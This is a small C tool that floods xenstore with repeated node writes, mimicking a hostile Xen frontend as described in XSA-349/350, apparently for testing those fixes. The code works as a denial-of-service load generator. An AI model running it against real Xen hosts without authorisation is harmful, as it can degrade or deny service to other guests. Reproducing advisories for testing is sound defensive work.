/*
 * xs-storm - rewrite xenstore nodes as fast as one client can, the way a
 * hostile frontend would (XSA-349/350): each round writes every PATH=VALUE
 * pair in order, one request each.
 *   xs-storm ROUNDS PATH=VALUE...
 */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <xenstore.h>

int main(int argc, char **argv)
{
    struct xs_handle *xs;
    long rounds;

    if (argc < 3 || (rounds = strtol(argv[1], NULL, 10)) <= 0) {
        fprintf(stderr, "usage: xs-storm ROUNDS PATH=VALUE...\n");
        return 2;
    }
    xs = xs_open(0);
    if (!xs) {
        perror("xs-storm: xs_open");
        return 1;
    }
    for (long r = 0; r < rounds; r++) {
        for (int i = 2; i < argc; i++) {
            char *eq = strchr(argv[i], '=');
            char path[1024];
            if (!eq || (size_t)(eq - argv[i]) >= sizeof(path)) {
                fprintf(stderr, "xs-storm: bad argument '%s'\n", argv[i]);
                return 2;
            }
            memcpy(path, argv[i], (size_t)(eq - argv[i]));
            path[eq - argv[i]] = '\0';
            if (!xs_write(xs, XBT_NULL, path, eq + 1, (unsigned)strlen(eq + 1))) {
                perror("xs-storm: xs_write");
                return 1;
            }
        }
    }
    xs_close(xs);
    return 0;
}
